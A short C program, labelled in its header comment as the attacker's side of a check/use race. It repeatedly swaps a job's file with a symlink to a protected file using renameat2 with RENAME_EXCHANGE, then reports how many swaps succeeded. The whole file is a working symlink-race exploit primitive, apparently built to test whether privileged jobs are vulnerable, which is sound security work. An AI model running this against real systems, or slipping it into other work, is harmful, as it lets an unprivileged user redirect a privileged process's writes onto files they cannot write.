/* The attacker's side of a check/use race: swaps the names A and B with
 * renameat2(RENAME_EXCHANGE) in a tight loop (A is the job's file, B a
 * symlink to a file the attacker cannot write), for at most SECONDS seconds
 * and COUNT swaps. Errors (A not there yet) are ignored. Prints the number
 * of successful swaps when it ends (also on SIGTERM).
 * Usage: exchange A B SECONDS COUNT                                        */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: exchange A B SECONDS COUNT\n");
		return 2;
	}
	signal(SIGTERM, on_term);
	time_t end = time(NULL) + atol(argv[3]);
	long max = atol(argv[4]), swaps = 0, tries = 0;
	while (!stop && swaps < max) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
			swaps++;
		if ((++tries & 1023) == 0 && time(NULL) >= end)
			break;
	}
	printf("%ld swaps\n", swaps);
	return 0;
}
